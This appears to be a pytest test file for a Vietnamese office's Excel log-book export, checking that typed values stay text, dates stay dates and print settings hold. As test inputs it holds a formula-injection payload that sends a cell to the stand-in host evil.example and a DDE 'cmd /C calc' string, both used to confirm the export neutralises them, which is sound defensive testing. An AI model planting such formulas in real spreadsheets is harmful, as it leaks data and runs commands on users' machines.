"""The log book's Excel export (Mẫu 07): what was typed stays text, never a formula; dates
are dates; it prints on landscape pages with the headings repeated; a control character
stored in a name does not break it."""

from __future__ import annotations

import io
from datetime import datetime

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import update

from onestop.dossiers.models import Dossier
from tests.factories import OFFICE, make_dossier

EXPORT = "/counter/so-theo-doi.xlsx?date=2026-11-25"
LEAK = '=HYPERLINK("http://evil.example/leak?p="&G4,"x")'
HEADER_ROW = 3


@pytest.fixture
def officer(auth, make_user):
    user, password = make_user("officer", agency_code=OFFICE, full_name="Nguyễn Thị Lan")
    auth.login(user.username, password)
    return user


def stored(session, dossier, **values: str) -> None:
    """Values as they may already be in the database (typed before the checks, imported)."""
    session.execute(update(Dossier).where(Dossier.id == dossier.id).values(**values))
    session.commit()


def export(client) -> Worksheet:
    answer = client.get(EXPORT)
    assert answer.status_code == 200, answer.get_data(as_text=True)[:500]
    sheet = load_workbook(io.BytesIO(answer.data)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def cells_of(sheet: Worksheet, row: int) -> dict[str, object]:
    """The cells of a row, by their column heading."""
    headings = [c.value for c in sheet[HEADER_ROW]]
    return dict(zip(headings, sheet[row], strict=True))


def test_a_formula_typed_as_an_address_stays_text(client, session, officer):
    dossier = make_dossier(session, officer)
    stored(session, dossier, owner_address=LEAK)
    sheet = export(client)
    cell = cells_of(sheet, HEADER_ROW + 1)["Địa chỉ"]
    assert cell.data_type == "s"
    assert cell.value == LEAK
    assert cell.quotePrefix  # retyped in Excel or LibreOffice, it stays text
    for row in sheet.iter_rows():
        for c in row:
            assert c.data_type != "f", c.coordinate


@pytest.mark.parametrize(
    "typed",
    ["=1+1", "+84912345678", "-2+3", "@SUM(A1:A2)", "\t=cmd|' /C calc'!A0", "#N/A", "=", "0912"],
)
def test_every_value_from_user_input_is_a_string(client, session, officer, typed):
    dossier = make_dossier(session, officer)
    stored(session, dossier, owner_name=typed, owner_address=typed, owner_phone=typed[:15])
    row = cells_of(export(client), HEADER_ROW + 1)
    for heading, value in (
        ("Họ tên chủ hồ sơ", typed),
        ("Địa chỉ", typed),
        ("Số điện thoại", typed[:15]),
    ):
        cell = row[heading]
        assert cell.data_type == "s", heading
        assert cell.value == value, heading
        assert bool(cell.quotePrefix) == typed.startswith(("=", "+", "-", "@", "\t")), heading
    assert row["Mã hồ sơ"].data_type == "s" and row["Mã hồ sơ"].value == dossier.code


def test_dates_are_dates_in_vietnam_time(client, session, officer):
    make_dossier(session, officer)
    session.commit()
    row = cells_of(export(client), HEADER_ROW + 1)
    received, due = row["Nhận hồ sơ"], row["Hẹn trả kết quả"]
    assert received.is_date and received.number_format.startswith("dd/mm/yyyy")
    assert received.value == datetime(2026, 11, 25, 9, 0)  # 02:00 UTC
    assert due.is_date and due.value == datetime(2026, 12, 4, 9, 0)
    assert row["Ngày nhận kết quả"].value is None and row["Trả kết quả"].value is None
    assert row["STT"].value == 1 and row["Số lượng (bộ)"].value == 1


def test_the_sheet_prints_landscape_fit_to_width_with_the_headings_on_each_page(
    client, session, officer
):
    make_dossier(session, officer)
    session.commit()
    sheet = export(client)
    setup = sheet.page_setup
    assert setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert setup.fitToWidth == 1 and setup.fitToHeight == 0
    assert sheet.print_title_rows.replace("$", "") == f"{HEADER_ROW}:{HEADER_ROW}"
    assert [c.value for c in sheet[HEADER_ROW]][:3] == ["STT", "Mã hồ sơ", "Nội dung"]


def test_control_characters_stored_in_a_name_do_not_break_the_export(client, session, officer):
    nul = session.get_bind().dialect.name == "sqlite"  # PostgreSQL cannot store a NUL
    name = "Trần\x00Văn\x07 Bình\x1b" if nul else "Trần\x01Văn\x07 Bình\x1b"
    dossier = make_dossier(session, officer)
    stored(session, dossier, owner_name=name, owner_address="12\x0c Lê Lợi\x7f")
    row = cells_of(export(client), HEADER_ROW + 1)
    assert row["Họ tên chủ hồ sơ"].value == "TrầnVăn Bình"
    assert row["Địa chỉ"].value == "12 Lê Lợi"
    # The rest of the day is there too.
    assert row["Mã hồ sơ"].value == dossier.code
